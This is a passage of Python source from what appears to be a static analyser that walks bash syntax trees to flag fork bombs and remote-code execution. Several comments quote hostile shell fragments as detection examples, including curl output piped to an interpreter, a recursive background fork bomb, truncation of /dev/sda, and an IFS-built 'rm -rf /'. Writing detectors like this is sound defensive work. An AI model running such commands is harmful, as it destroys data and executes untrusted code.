            self.pipe = saved
        return out

    def loop(self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool) -> Stream:
        body = node.child_by_field_name("body")
        conditions = [c for c in node.named_children if c != body]
        for cond in conditions:
            self.statement(cond, env, depth, stdin, background)
        until = node.type == "until_statement" or (
            bool(node.children) and node.children[0].type == "until"
        )  # tree-sitter-bash gives ``until`` loops the type ``while_statement``
        forever = _always(conditions, until, stdin)
        if body is not None:
            self.loop_body(node, body, env, depth, forever, background)
        return UNKNOWN_STREAM

    def loop_body(
        self, loop: Node, body: Node, env: _Env, depth: int, forever: bool, background: bool
    ) -> None:
        before = len(self.analysis.commands)
        self.watching += 1
        try:
            self.statement(body, env, depth, UNKNOWN_STREAM, background)
        finally:
            self.watching -= 1
        if not forever:
            return
        spawned = [c for c in self.analysis.commands[before:] if c.asynchronous]
        if spawned and not _throttled(body):
            self.finding("fork-bomb", node_text(loop))

    def c_for(self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool) -> Stream:
        body = node.child_by_field_name("body")
        condition = node.child_by_field_name("condition")
        text = node_text(node)
        header = text[: text.find("))") + 2] if "))" in text else text
        parts = header.strip()[len("for") :].strip().strip("()").split(";")
        forever = condition is None and len(parts) >= 2 and not parts[1].strip()
        bound = re.search(r"[<>]=?\s*(\d+)", parts[1]) if len(parts) >= 2 else None
        forever = forever or (bound is not None and int(bound.group(1)) > _MANY)
        if body is not None:
            self.loop_body(node, body, env, depth, forever, background)
        return UNKNOWN_STREAM

    def for_in(self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool) -> Stream:
        variable = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        values: list[str] = []
        tainted = pids = False
        has_values = False
        for child in node.children_by_field_name("value"):
            has_values = True
            word = self.word(child, env, depth)
            tainted = tainted or word.tainted
            # ``$(ps -e -o pid=)``, ``/proc/[0-9]*``: every process id, one at a time
            pids = (
                pids
                or word.pids
                or any(re.fullmatch(r"/proc/(?:\[0-9\]|\*)\*?", a) for a in word.alts)
            )
            for alt in word.alts:
                values.extend(split_unquoted(alt) if child.type not in ("string", "raw_string")
                              else [alt])  # fmt: skip
        if variable is not None:
            self.version += 1
            name = node_text(variable)
            if not has_values:
                env.vars[name] = tuple(w.alts[0] for w in env.positional or []) or (U,)
            else:
                env.vars[name] = tuple(dict.fromkeys(values))[:MAX_ALTS] or ("",)
            if pids:
                env.files[f"$pids:{name}"] = Stream(pids=True)
            else:
                env.files.pop(f"$pids:{name}", None)
        if body is not None:
            # ``for i in {1..100000}`` or ``$(seq 1 100000)`` starting jobs is a fork loop too.
            many = any(_many_values(node_text(c)) for c in node.children_by_field_name("value"))
            self.loop_body(node, body, env, depth, many, background)
        return UNKNOWN_STREAM

    def assign(self, node: Node, env: _Env, depth: int) -> None:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        if name_node is None:
            return
        self.version += 1
        name = node_text(name_node)
        if value_node is None:
            env.vars[name] = ("",)
            return
        word = self.word(value_node, env, depth)
        env.vars[name] = word.alts
        if value_node.type == "array":
            elements = [self.word(c, env, depth) for c in value_node.named_children][:MAX_ALTS]
            env.vars[f"array {name}"] = tuple(w.alts[0] for w in elements)
            env.vars[name] = elements[0].alts if elements else ("",)
        else:
            env.vars.pop(f"array {name}", None)
        if word.tainted:
            env.vars[name] = (U,)
            env.files[f"$var:{name}"] = Stream(tainted=True)
        else:
            env.files.pop(f"$var:{name}", None)

    def define(self, node: Node, env: _Env, depth: int) -> None:
        name_node = node.child_by_field_name("name")
        body = node.child_by_field_name("body")
        if name_node is None or body is None:
            return
        name = node_text(name_node)
        self.version += 1
        env.functions[name] = body
        if _self_spawning(name, body):
            self.finding("fork-bomb", node_text(node))
        # The body runs only when called; walk it once now with unknown arguments so that
        # code in a function nobody calls here (or that a later script calls) is seen too.
        saved = env.positional
        env.positional = None
        self.call_function(name, body, env, depth, [], UNKNOWN_STREAM, False)
        env.positional = saved

    def call_function(
        self, name: str, body: Node, env: _Env, depth: int, args: list[Word], stdin: Stream,
        background: bool,
    ) -> Stream:  # fmt: skip
        if name in env.active or env.calls.get(name, 0) >= 8:
            if name in env.active and background and len(env.active) > 1:
                # ``g(){ h & }; h(){ g & g; }``: functions starting each other in the background
                self.finding("fork-bomb", f"{' -> '.join(env.active)} -> {name} &")
            return UNKNOWN_STREAM
        self.version += 1
        env.calls[name] = env.calls.get(name, 0) + 1
        saved_positional, saved_active = env.positional, env.active
        env.positional = list(args) if args or saved_positional is not None else None
        env.active = (*env.active, name)
        try:
            return self.statement(body, env, depth, stdin, background)
        finally:
            env.positional, env.active = saved_positional, saved_active

    # --- simple commands ----------------------------------------------------------------

    def command(
        self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool,
        redirects: list[tuple[str, Word]],
    ) -> Stream:  # fmt: skip
        text = node_text(node)
        if _PLAIN_COMMAND.fullmatch(text):
            return self.plain(text, env, depth, stdin, background, redirects)
        words: list[Word] = []
        assignments: list[Node] = []
        redirects = list(redirects)
        for child in node.named_children:
            kind = child.type
            if kind == "variable_assignment":
                assignments.append(child)
            elif kind == "command_name":
                inner = child.named_children[0] if child.named_children else child
                words.extend(self.words(inner, env, depth))
            elif kind == "file_redirect":
                op, target = self.redirect(child, env, depth)
                if target is not None:
                    redirects.append((op, target))
                    if op == "<":
                        stdin = (
                            self.read_file(target, env)
                            if target.literal and not target.tainted
                            else Stream(tainted=target.tainted)
                        )
            elif kind == "herestring_redirect":
                value = next(iter(child.named_children), None)
                if value is not None:
                    word = self.word(value, env, depth)
                    stdin = _herestring(word)
            elif kind == "comment":
                continue
            else:
                words.extend(self.words(child, env, depth))
        if not words:
            for child in assignments:
                self.assign(child, env, depth)
            for op, target in redirects:  # ``> /dev/sda`` alone truncates the target
                self.emit(Cmd([lit(":")], node_text(node), [(op, target)], stdin, env.cwd), env)
            return UNKNOWN_STREAM
        for child in assignments:  # ``FOO=1 cmd``: visible to cmd only, but walk the values
            self.word(child.child_by_field_name("value") or child, env, depth)
        return self.run(words, node, env, depth, stdin, background, redirects)

    def plain(
        self, text: str, env: _Env, depth: int, stdin: Stream, background: bool,
        redirects: list[tuple[str, Word]],
    ) -> Stream:  # fmt: skip
        """A command with no quoting, expansion, glob or redirection: its words are the text
        split on blanks (most of any long input; walking its tree costs several times more)."""
        words = self.plain_split(text)
        return self.run(words, text, env, depth, stdin, background, list(redirects))

    def plain_split(self, text: str) -> list[Word]:
        """``text`` split on blanks, each word made once per walk (plain commands repeat)."""
        cache = self.plain_words
        words = []
        for part in text.split():
            word = cache.get(part)
            if word is None:
                word = cache[part] = Word.plain(part)
            words.append(word)
        return words

    def run(
        self, words: list[Word], written: str | Node, env: _Env, depth: int, stdin: Stream,
        background: bool, redirects: list[tuple[str, Word]],
    ) -> Stream:  # fmt: skip
        """The command ``words`` runs: peel wrappers, follow nested code, record it."""
        if not self.step():
            return UNKNOWN_STREAM
        if words and words[0].literal is not None and f"alias {words[0].literal}" in env.vars:
            # An alias's text replaces the command's first word, read again as code.
            value = env.vars.pop(f"alias {words[0].literal}")[0]
            try:
                rest = " ".join(quoted(w) for w in words[1:])
                return self.run_code(f"{value} {rest}", env, depth + 1, stdin)
            finally:
                env.vars[f"alias {words[0].literal}"] = (value,)
        if words and program_name(words[0].value) == "alias":
            for word in words[1:]:
                name, eq, value = word.value.partition("=")
                if eq and _NAME.fullmatch(name.replace("-", "_")):
                    self.version += 1
                    env.vars[f"alias {name}"] = (value if not word.unknown else "$__knm_unknown",)
        self_spawn = bool(words) and words[0].text.strip('"') in ("$0", "${0}")
        unwrapped = unwrap(strip_assignments(words))
        words = unwrapped.words
        self_spawn = self_spawn or (bool(words) and words[0].text.strip('"') in ("$0", "${0}"))
        cwd = env.cwd if unwrapped.cwd is None else normalize(unwrapped.cwd, env.cwd)
        cmd = Cmd(words, written, redirects, stdin, cwd, background)
        if words:
            self.emit(cmd, env)
            if words[0].tainted:  # ``$(curl ..)``, ``read -r l`` of fetched text, then ``$l``
                self.finding("remote-code", cmd.written)
        program = cmd.program
        if background:
            operands = [w for w in words[1:] if not w.value.startswith("-") or w.value == "-"]
            if self_spawn or (program in SHELLS and operands
                              and operands[0].text.strip('"') in ("$0", "${0}")):  # fmt: skip
                self.finding("fork-bomb", cmd.written)  # the script starts copies of itself
        for code, positional in unwrapped.code:
            # ``sh -c CODE``, ``eval CODE``: CODE reads the command's stdin (``| sh -c 'cat|sh'``)
            self.nested_code(code, env, depth, stdin, cmd, positional)
        if _reverse_shell(cmd):  # a shell whose input is the network
            self.finding("remote-code", cmd.written)
        if stdin.tainted and _runs_its_input(program, cmd.words[1:]):
            # ``curl .. | python3 -c 'exec(sys.stdin.read())'``, ``| awk '{system($0)}'``
            self.finding("remote-code", self.pipe_text(cmd))
        if words and words[0].literal is not None and "/" in words[0].literal:
            stored = env.files.get(normalize(words[0].literal, cwd))
            if stored is not None and stored.tainted:  # ``curl -o x.sh ..; ./x.sh``
                self.finding("remote-code", cmd.written)
            elif stored is not None and stored.text is not None:  # ``echo .. > x.sh; ./x.sh``
                if self.unknown_code(stored.text):
                    self.finding("remote-code", cmd.written)
                else:
                    self.run_code(stored.text, env.child(), depth + 1)
        if unwrapped.stdin_code and not unwrapped.code:
            if stdin.tainted or stdin.opaque:
                # Code fetched or decoded, or another program's output: not known here.
                self.finding("remote-code", self.pipe_text(cmd))
            elif stdin.text is not None:
                if self.unknown_code(stdin.text):
                    self.finding("remote-code", self.pipe_text(cmd))
                else:
                    self.run_code(stdin.text, env.child(), depth + 1)
        if program in INTERPRETERS or program in ("source", "."):
            self.interpreter(cmd, env, depth, unwrapped)
        if program == "parallel" and stdin.endless and _unlimited_jobs(words[1:], "jP", "jobs"):
            self.finding("fork-bomb", self.pipe_text(cmd))  # ``yes | parallel -j0 ...``
        if program == "xargs":
            self.xargs(cmd, env, depth)
        elif program == "find":
            self.find_exec(cmd, env, depth)
        if not words:
            return UNKNOWN_STREAM
        return self.effects(cmd, env, depth, unwrapped)

    def interpreter(self, cmd: Cmd, env: _Env, depth: int, unwrapped: Unwrapped) -> None:
        """Code an interpreter reads from a file or its stdin: fetched or decoded is a
        finding; a file this text wrote with known shell code is walked."""
        program = cmd.program
        args = cmd.words[1:]
        if unwrapped.code:
            return
        inline = (
            ("-c",)
            if program in ("python", "python2", "python3")
            else ("-e", "-E", "-r", "--eval", "-p", "--print")
            if program in ("perl", "ruby", "node", "nodejs", "php")
            else ()
        )
        for flag, code in itertools.pairwise(args):
            if flag.value in inline and code.tainted:  # ``python3 -c "$(curl ..)"``
                self.finding("remote-code", cmd.written)
                return
        if program in ("python", "python2", "python3") and any(
            w.value in ("-c", "-m") for w in args
        ):
            return
        if program in ("perl", "ruby", "node", "nodejs", "php") and any(
            w.value in ("-e", "-E", "-r", "--eval") for w in args
        ):
            return
        operands = [w for w in args if not w.value.startswith("-") or w.value == "-"]
        script = operands[0] if operands else None
        if script is None or script.value in ("-", "/dev/stdin"):
            if cmd.stdin.tainted:
                self.finding("remote-code", self.pipe_text(cmd))
            elif (
                cmd.stdin.text is not None
                and (program in SHELLS or program in (".", "source"))
                and script is not None  # ``bash /dev/stdin``; ``sh`` alone is handled by unwrap
            ):
                if self.unknown_code(cmd.stdin.text):
                    self.finding("remote-code", self.pipe_text(cmd))
                else:
                    self.run_code(cmd.stdin.text, env.child(), depth + 1)
            return
        if script.tainted:
            self.finding("remote-code", cmd.written)
            return
        if script.literal is None:
            return
        stored = env.files.get(normalize(script.literal, cmd.cwd))
        if stored is None:
            return
        if stored.tainted or (stored.text is not None and self.unknown_code(stored.text)):
            self.finding("remote-code", cmd.written)
        elif stored.text is not None and (program in SHELLS or program in (".", "source")):
            child = env.child() if program not in (".", "source") else env
            self.version += 1
            saved = child.vars.get("0")
            child.vars["0"] = (script.literal,)
            child.positional = list(operands[1:])
            self.run_code(stored.text, child, depth + 1)
            if saved is not None:
                child.vars["0"] = saved

    def xargs(self, cmd: Cmd, env: _Env, depth: int) -> None:
        """``... | xargs CMD``: CMD runs with words read from stdin."""
        args = cmd.words[1:]
        if cmd.stdin.endless and _unlimited_jobs(args, "P", "max-procs"):
            self.finding("fork-bomb", self.pipe_text(cmd))  # ``yes | xargs -P0 ...``
        inner = skip_options(args, "adEILnPs", frozenset({"arg-file", "delimiter",
                              "max-args", "max-procs", "max-chars", "process-slot-var",
                              "eof", "replace", "max-lines"}))  # fmt: skip
        if not inner:
            inner = [lit("echo")]
        replace_str = option_word(args, "I", ("replace",))
        if replace_str is None and any(w.value.startswith("-i") for w in args):
            replace_str = lit("{}")
        stdin = cmd.stdin
        if stdin.text is not None:
            fed = [Word((v.replace(_PLACEHOLDER, U),), v) for v in stdin.text.split()] or [lit("")]
        elif stdin.paths:
            # what ``ls DIR`` or ``find`` lists: the entries named (``ls /dev/sd*``) or inside
            fed = [
                Word((p, posixpath.join(p, "*")), "<stdin>", pids=stdin.pids) for p in stdin.paths
            ]
        elif stdin.pids:
            fed = [Word((U,), "$(ps)", pids=True)]
        else:
            fed = [Word((U,), "<stdin>", tainted=stdin.tainted)]
        if replace_str is not None:
            token = replace_str.value
            words = [_substitute(w, token, fed[0]) for w in inner]
        else:
            words = [*inner, *fed[:MAX_ALTS]]
        self.run(words, cmd.written, env, depth + 1, UNKNOWN_STREAM, cmd.asynchronous, [])

    def find_exec(self, cmd: Cmd, env: _Env, depth: int) -> None:
        """``find START ... -exec CMD {} ;``: CMD runs on what find matched -- with no
        narrowing test, everything under START, which reads as ``START/*``."""
        values = [w.value for w in cmd.words[1:]]
        starts = _find_starts(values)
        narrowed = _find_narrowed(values)
        names = _find_names(values)
        # find acts on each start itself too (``find /etc/passwd -exec rm {} ;``), unless
        # ``-mindepth`` skips it
        itself = _find_itself(values)
        matched = (
            Word(
                tuple(
                    dict.fromkeys(
                        [
                            posixpath.join(normalize(s, cmd.cwd), *middle, name)
                            for s in starts
                            for name in names
                            # a plain name may be deeper down (``-name passwd``); a pattern
                            # stays put
                            for middle in (((),) if _GLOB_CHARS.search(name) else ((), ("*",)))
                        ]
                        + [
                            normalize(s, cmd.cwd)
                            for s in starts
                            for name in names
                            if itself
                            and fnmatch.fnmatchcase(posixpath.basename(normalize(s, cmd.cwd)), name)
                        ]
                    )
                )[:MAX_ALTS],
                "{}",
            )
            if narrowed and names
            else lit("/knm-found/file")
            if narrowed
            else Word(
                tuple(
                    dict.fromkeys(
                        [posixpath.join(normalize(s, cmd.cwd), "*") for s in starts]
                        + [normalize(s, cmd.cwd) for s in starts if itself]
                    )
                )[:MAX_ALTS],
                "{}",
            )
        )
        args = cmd.words[1:]
        i = 0
        while i < len(args):
            if args[i].value in ("-exec", "-execdir", "-ok", "-okdir"):
                j = i + 1
                while j < len(args) and args[j].value not in (";", "+"):
                    j += 1
                inner = [_substitute(w, "{}", matched) for w in args[i + 1 : j]]
                if inner:
                    self.run(inner, cmd.written, env, depth + 1, UNKNOWN_STREAM,
                             cmd.asynchronous, [])  # fmt: skip
                i = j
            i += 1

    def emit(self, cmd: Cmd, env: _Env) -> None:
        self.analysis.commands.append(cmd)
        for op, target in cmd.redirects:
            if op in (">", ">|", "&>", ">>", "&>>") and target.literal is not None:
                path = normalize(target.literal, env.cwd)
                if cmd.stdin.tainted or _produces_taint(cmd):
                    stored = Stream(tainted=True)
                elif cmd.program in ("echo", "printf") and op in (">", ">|"):
                    text = _echo_output(cmd.words)
                    stored = Stream(text=text) if text is not None else UNKNOWN_STREAM
                elif (
                    cmd.program in ("cat", ":")
                    and len(cmd.words) == 1
                    and op in (">", ">|")
                    and cmd.stdin.text is not None
                ):
                    stored = Stream(text=cmd.stdin.text)  # ``cat > x.sh <<E``
                else:
                    continue
                if env.files.get(path) != stored:
                    self.version += 1
                    env.files[path] = stored

    def nested_code(
        self, code: Word, env: _Env, depth: int, stdin: Stream, cmd: Cmd,
        positional: list[Word] | None = None,
    ) -> None:  # fmt: skip
        """Code a command runs as shell (``sh -c CODE``, ``eval``): walk it; code that is not
        known text (fetched, decoded or unknown at its command position) is a finding."""
        if code.tainted:
            self.finding("remote-code", cmd.written)
            return
        if code.unknown and _eval_of_env_setup(code):
            return
        child = env.child()
        if positional is not None:
            child.vars["0"] = positional[0].alts if positional else ("sh",)
            child.positional = list(positional[1:])
        child.functions = dict(env.functions)
        for alt in code.alts:
            text = alt.replace(U, "$__knm_unknown")
            if U in alt and (
                cmd.program == "eval"  # eval of text not known here: any code
                or alt.strip() == U
                or _unknown_command_position(self.clock.parse(text))
            ):
                self.finding("remote-code", cmd.written)
                continue
            self.run_code(text, child, depth + 1, stdin)

    def copy_files(self, args: Sequence[Word], env: _Env) -> None:
        """``cp x.sh y.sh``, ``mv``, ``install``, ``ln``: what the walk knows of a file this text
        wrote (fetched code, a script) goes with it, onto the destination or into it."""
        if not env.files:
            return
        operands = [w for w in args if not w.value.startswith("-")]
        if any(w.value.startswith(("-t", "--target-directory")) for w in args):
            return  # ``-t DIR``: leave it unknown
        if len(operands) < 2 or operands[-1].literal is None:
            return
        dest = normalize(operands[-1].literal, env.cwd)
        for source in operands[:-1]:
            if source.literal is None:
                continue
            stored = env.files.get(normalize(source.literal, env.cwd))
            if stored is None:
                continue
            name = posixpath.basename(normalize(source.literal, env.cwd))
            for path in (dest, posixpath.join(dest, name)):
                if env.files.get(path) != stored:
                    self.version += 1
                    env.files[path] = stored

    def effects(self, cmd: Cmd, env: _Env, depth: int, unwrapped: Unwrapped) -> Stream:
        """Follow what the command does to the walk's state and to its output."""
        program = cmd.program
        if program not in _EFFECTS and program not in env.functions:
            return Stream(tainted=True) if cmd.stdin.tainted else OPAQUE_STREAM
        words = cmd.words
        args = words[1:]
        if program in env.functions:
            return self.call_function(
                program, env.functions[program], env, depth, args, cmd.stdin, cmd.asynchronous
            )
        if program in ("cd", "pushd", "chdir", "set", "read", "mapfile", "readarray") or (
            program in FETCHERS
        ):
            self.version += 1
        if program in ("cd", "pushd", "chdir"):
            operands = [w for w in args if not w.value.startswith("-") or w.value == "-"]
            if not operands:
                env.cwd = env.vars.get("HOME", ("/root",))[0]
            else:
                target = operands[0]
                env.cwd = normalize(target.alts[0], env.cwd) if target.value != "-" else U
            return UNKNOWN_STREAM
        if program == "set" and args and args[0].value == "--":
            env.positional = list(args[1:])
            return UNKNOWN_STREAM
        if program in ("read", "mapfile", "readarray"):
            names = [w.value for w in args if _NAME.fullmatch(w.value)]
            lines = [line.strip() for line in (cmd.stdin.text or "").splitlines() if line.strip()]
            for word in args:
                if _NAME.fullmatch(word.value):
                    env.vars[word.value] = (U,)
                    if program == "read" and len(names) == 1 and 0 < len(lines) <= MAX_ALTS:
                        # ``printf '%s\n' /etc/passwd | while read f``: each line in turn
                        env.vars[word.value] = tuple(dict.fromkeys(lines))
                    if cmd.stdin.tainted:  # a line of fetched or decoded text
                        env.files[f"$var:{word.value}"] = Stream(tainted=True)
                    else:
                        env.files.pop(f"$var:{word.value}", None)
                    if cmd.stdin.pids:  # ``ps -e -o pid= | while read p``: every pid in turn
                        env.files[f"$pids:{word.value}"] = Stream(pids=True)
                    else:
                        env.files.pop(f"$pids:{word.value}", None)
            return UNKNOWN_STREAM
        if (program == "seq" and _many_values(f"$({cmd.text})")) or (
            program == "cat" and any(w.value in _ENDLESS_FILES for w in args)
        ):
            return Stream(endless=True)  # ``seq 1000000``, ``cat /dev/zero``: no end to a loop
        if program in ("echo", "printf"):
            tainted = any(w.tainted for w in args)
            # Unknown parts stay in the text as ``$__knm_unknown``: fed to a shell, one at a
            # command position is ``sh -c "$X"`` (``_unknown_code``).
            text = _echo_output(
                [words[0], *(w if not w.unknown else lit(w.alts[0].replace(U, _PLACEHOLDER))
                             for w in args)]
            ) if not tainted else None  # fmt: skip
            pids = any(w.pids for w in args)
            return Stream(text=text, tainted=tainted, pids=pids)
        if program == "cat" and len(args) == 0:
            return cmd.stdin
        if program in ("cp", "mv", "install", "ln"):
            self.copy_files(args, env)
            return Stream(tainted=True) if cmd.stdin.tainted else OPAQUE_STREAM
        if program in ("cat", "tee", "head", "tail", "less", "more", "sort", "uniq", "cut",
                       "awk", "sed", "grep", "egrep", "fgrep", "xargs", "tac", "column",
                       "jq", "yq", "dd", "pv", "stdbuf", "cat", "busybox"):  # fmt: skip
            files = [w for w in args if w.literal and not w.value.startswith("-")]
            if program == "tee" and (cmd.stdin.tainted or cmd.stdin.text is not None):
                for w in files:  # ``curl .. | tee x.sh``, ``tee x.sh <<< CODE``: x.sh holds it
                    stored = (
                        Stream(tainted=True) if cmd.stdin.tainted else Stream(text=cmd.stdin.text)
                    )
                    if env.files.get(normalize(w.value, env.cwd)) != stored:
                        self.version += 1
                        env.files[normalize(w.value, env.cwd)] = stored
            if (
                program in ("sed", "awk")
                and files
                and not any(w.value in ("-e", "-f", "--expression", "--file") for w in args)
            ):
                files = files[1:]  # ``sed s/a/b/ file``: the script is no file
            tainted = cmd.stdin.tainted or any(w.tainted for w in args)
            if (
                program == "cat"
                and files
                and (
                    env.files or any(w.value.startswith(("/dev/tcp/", "/dev/udp/")) for w in files)
                )
            ):
                streams = [env.files.get(normalize(w.value, env.cwd)) for w in files]
                if any(s is not None and s.tainted for s in streams) or any(
                    w.value.startswith(("/dev/tcp/", "/dev/udp/")) for w in files
                ):
                    tainted = True
                if len(streams) == 1 and streams[0] is not None and streams[0].text is not None:
                    return streams[0]
            pids = cmd.stdin.pids and not (
                program in ("grep", "egrep", "fgrep")
                and "-v" not in [w.value for w in args]
                and not _matches_every_pid(args)  # ``grep -E '^[0-9]+$'`` keeps them all
            )
            opaque = cmd.stdin.opaque or (program in ("awk", "sed") and not files)
            return Stream(tainted=tainted, pids=pids, paths=cmd.stdin.paths, opaque=opaque)
        if program in FETCHERS:
            if _fetch_to_stdout(program, args):
                return Stream(tainted=True)
            target = _fetch_output_file(program, args)
            if target is not None:
                env.files[normalize(target, env.cwd)] = Stream(tainted=True)
            for copied in _copied_here(program, args):  # ``scp h:/x.sh /tmp/``, ``aria2c``
                env.files[normalize(copied, env.cwd)] = Stream(tainted=True)
            return UNKNOWN_STREAM
        if _is_decoder(program, args):
            return Stream(tainted=True)
        if program == "yes":
            return Stream(endless=True)
        if program in ("ps", "pgrep", "pidof") and _lists_every_process(program, args):
            return Stream(pids=True)
        if (program in ("ls", "find") and args) or (program == "ls" and env.cwd == "/proc"):
            starts = [w.alts[0] for w in args if not w.value.startswith("-")][:1] or ["."]
            if program == "find":
                values = [w.value for w in args]
                starts = _find_starts(values)[:1]
                if _find_narrowed(values):
                    starts = [posixpath.join(s, "knm-found") for s in starts]
            paths = tuple(normalize(s, env.cwd) for s in starts)
            # ``ls /proc``: a directory per process, named by its pid
            every = program == "ls" and paths == ("/proc",) and "-d" not in [w.value for w in args]
            return Stream(paths=paths, pids=every)
        if cmd.stdin.tainted:
            return Stream(tainted=True)
        return OPAQUE_STREAM

    # --- words --------------------------------------------------------------------------

    def words(self, node: Node, env: _Env, depth: int) -> list[Word]:
        """The words one argument node becomes (``"$@"`` and unquoted ``$CMD`` may split)."""
        kind = node.type
        if kind == "word":
            return [self.word(node, env, depth)]
        text = node_text(node)
        if text in ('"$@"', "$@", '"$*"', "$*", "${@}", '"${@}"') and env.positional is not None:
            return list(env.positional)
        array = _ARRAY_ALL.fullmatch(text)
        if array and f"array {array.group(1)}" in env.vars:  # ``"${a[@]}"``: one word each
            return [Word((v,), text) for v in env.vars[f"array {array.group(1)}"]]
        word = self.word(node, env, depth)
        if node.type in ("simple_expansion", "expansion") and word.literal is not None:
            ifs = env.vars.get("IFS", (" \t\n",))[0]
            if U in ifs:
                ifs = " \t\n,:;/=."  # an IFS not known here: split where one may
            # Unquoted, the value splits on IFS (``IFS=,; x=rm,-rf,/; $x``).
            parts = [p for p in re.split("[" + re.escape(ifs) + "]", word.literal) if p]
            if len(parts) > 1:
                return [Word((p,), p) for p in parts]
        return [word]

    def word(self, node: Node, env: _Env, depth: int) -> Word:
        if not self.step():
            return Word((U,), "")
        kind = node.type
        text = node_text(node)
        if kind == "word" and not _SPECIAL_WORD.search(text):
            return Word((text,), text)
        if kind in ("word", "number", "regex", "extglob_pattern", "test_operator",
                    "special_variable_name", "variable_name", "file_descriptor"):  # fmt: skip
            value = unescape(text)
            if kind == "word":
                if value[:1] == "~":
                    value = _tilde(value, env)
                return Word(tuple(brace_expand(value)) if "{" in value else (value,), text)
            return Word((value,), text)
        if kind == "raw_string":
            return Word((text[1:-1],), text)
        if kind == "ansi_c_string":
            return Word((ansi_c(text[2:-1]),), text)
        if kind in ("string", "translated_string"):
            return self.concat([c for c in node.named_children], env, depth, text, quoted=True)
        if kind == "string_content":
            return Word((unescape_dq(text),), text)
        if kind == "concatenation":
            word = self.concat(list(node.named_children), env, depth, text, quoted=False)
            alts = tuple(dict.fromkeys(a for alt in word.alts for a in brace_expand(alt)))
            return word.with_alts(alts[:MAX_ALTS])
        if kind == "simple_expansion":
            name = text[1:]
            return Word(self.lookup(name, env), text, **self.taint_of(name, env))
        if kind == "expansion":
            return self.expansion(node, env, depth, text)
        if kind == "arithmetic_expansion":
            for sub in _walk(node):
                if sub.type == "command_substitution" and sub != node:
                    self.word(sub, env, depth)
            value = _arithmetic(text[3:-2])  # literal arithmetic; else a number, say 0
            return Word((value if value is not None else "0",), text)
        if kind == "command_substitution":
            body = [c for c in node.named_children if _is_statement(c)]
            before = len(self.analysis.commands)
            self.watching += 1
            try:
                out = self.statements(body, _sub_env(env), depth, UNKNOWN_STREAM)
            finally:
                self.watching -= 1
            producers = tuple(c.program for c in self.analysis.commands[before:])
            if out.text is not None and not out.tainted:
                value = out.text.rstrip("\n").replace(_PLACEHOLDER, U)
                return Word((value,), text, producers=producers)
            return Word((U,), text, tainted=out.tainted, pids=out.pids, producers=producers)
        if kind == "process_substitution":
            body = [c for c in node.named_children if _is_statement(c)]
            out = self.statements(body, _sub_env(env), depth, UNKNOWN_STREAM)
            unknown = out.text is not None and self.unknown_code(out.text)
            if out.text is not None and not unknown:  # ``. <(echo ...)``: that text is read
                env.files["/dev/fd/63"] = Stream(text=out.text)
            return Word(("/dev/fd/63",), text, tainted=out.tainted or unknown)
        if kind in ("array", "brace_expression"):
            parts = [self.word(c, env, depth) for c in node.named_children]
            alts = tuple(a for p in parts for a in p.alts)[:MAX_ALTS] or ("",)
            return Word(alts, text, tainted=any(p.tainted for p in parts))
        # Anything else (ERROR, binary_expression ...): walk substitutions, value unknown.
        for sub in node.named_children:
            if sub.type in ("command_substitution", "process_substitution"):
                self.word(sub, env, depth)
        return Word((unescape(text),) if "$" not in text and "`" not in text else (U,), text)

    def concat(self, nodes: list[Node], env: _Env, depth: int, text: str, quoted: bool) -> Word:
        # Runs of single-valued parts are joined once; only parts with alternatives multiply
        # (at most 16 of them: the rest count with their first value), so this stays linear.
        groups: list[list[str]] = [[]]
        choices: list[tuple[str, ...]] = []
        tainted = pids = False
        producers: tuple[str, ...] = ()
        for child in nodes:
            if child.type == '"':
                continue
            part = self.word(child, env, depth)
            tainted = tainted or part.tainted
            pids = pids or part.pids
            if part.producers and len(producers) < 16:
                producers += part.producers
            if len(part.alts) == 1 or len(choices) >= 16:
                groups[-1].append(part.alts[0])
            else:
                choices.append(part.alts)
                groups.append([])
        alts: tuple[str, ...] = ("".join(groups[0]),)
        for options, group in zip(choices, groups[1:], strict=True):
            tail = "".join(group)
            alts = tuple(dict.fromkeys(a + b + tail for a in alts for b in options))[:MAX_ALTS]
        return Word(alts, text, tainted=tainted, pids=pids, producers=producers)

    def lookup(self, name: str, env: _Env) -> tuple[str, ...]:
        if name.startswith("__knm_"):  # the walk's own placeholders: unknown, whatever is set
            return (U,)
        if name.isdigit() and name != "0":
            index = int(name) - 1
            if env.positional is not None:
                return env.positional[index].alts if index < len(env.positional) else ("",)
            return (U,)
        if name in ("@", "*"):
            if env.positional is not None:
                return (" ".join(w.alts[0] for w in env.positional),)
            return (U,)
        if name in ("$", "!", "PPID", "BASHPID", "RANDOM"):
            return ("4242",)  # a process id, never init's
        if name in ("?", "#", "LINENO", "SECONDS", "UID", "EUID"):
            return ("0",)
        if name == "PWD":
            return (env.cwd,)
        if name == "-":
            return ("hB",)
        return env.vars.get(name, (U,))

    def taint_of(self, name: str, env: _Env) -> dict[str, bool]:
        if f"$pids:{name}" in env.files:
            return {"pids": True}
        return {"tainted": True} if f"$var:{name}" in env.files else {}

    def expansion(self, node: Node, env: _Env, depth: int, text: str) -> Word:
        match = _EXPANSION.match(text)
        if match is None:
            for sub in _walk(node):
                if sub.type == "command_substitution" and sub != node:
                    self.word(sub, env, depth)
            return Word((U,), text)
        length, name, rest = match.groups()
        if length:
            return Word(("1",), text)
        index = re.fullmatch(r"\[(\d+)\]", rest)
        if index and f"array {name}" in env.vars:
            elements = env.vars[f"array {name}"]
            i = int(index.group(1))
            return Word((elements[i] if i < len(elements) else "",), text)
        if rest in ("[@]", "[*]") and f"array {name}" in env.vars:
            return Word((" ".join(env.vars[f"array {name}"]),), text)
        value = self.lookup(name, env)
        taint = self.taint_of(name, env)
        if not rest:
            return Word(value, text, **taint)
        op = re.match(r"^(:?[-=+?])", rest)
        if op:
            operand_nodes = [
                c for c in node.named_children if c.type not in ("variable_name",
                                                                 "special_variable_name")
            ]  # fmt: skip
            operand = (
                self.concat(operand_nodes, env, depth, rest, quoted=False)
                if operand_nodes
                else Word((rest[len(op.group(1)) :],), rest)
            )
            kind = op.group(1).lstrip(":")
            if kind in ("-", "="):
                known = [v for v in value if U not in v and v]
                alts = (*known, *operand.alts) if known else (*value, *operand.alts)
                if kind == "=" and U in "".join(value):
                    self.version += 1
                    env.vars[name] = tuple(dict.fromkeys(alts))[:MAX_ALTS]
